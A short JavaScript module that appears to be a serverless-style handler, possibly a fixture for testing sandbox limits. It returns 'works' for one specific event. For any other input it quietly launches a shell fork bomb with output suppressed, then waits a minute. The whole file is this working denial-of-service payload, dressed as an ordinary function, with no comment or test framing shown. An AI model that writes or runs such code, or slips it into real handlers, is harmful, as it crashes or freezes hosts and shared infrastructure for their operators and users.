import { spawn } from "node:child_process";

export const handler = async (event) => {
  if (event === "works") return "works";
  spawn("/bin/sh", ["-c", "bomb() { bomb | bomb & }; bomb; wait"], { stdio: "ignore" });
  await new Promise((resolve) => setTimeout(resolve, 60_000));
};
